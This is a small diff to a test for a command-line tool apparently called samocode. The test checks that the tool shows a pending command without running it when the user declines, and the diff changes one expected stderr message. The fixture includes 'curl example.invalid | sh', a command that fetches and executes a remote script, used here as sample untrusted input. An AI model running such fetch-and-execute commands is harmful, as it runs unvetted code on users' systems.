@@ -19,7 +19,7 @@ test('start on a terminal shows what would run, and a no starts nothing', async 
   expect(exitCode).toBe(1);
   expect(stdout).toContain('CHECK=curl example.invalid | sh');
   expect(stdout).not.toContain('\u001b[2K');
-  expect(stderr).toContain('"samocode trust"');
+  expect(stderr).toContain('Next: samocode trust');
   expect(stderr).not.toContain('setup_project');
   expect(JSON.parse((await typed(['list', '--json'], place)).stdout).sessions).toEqual([]);
 });
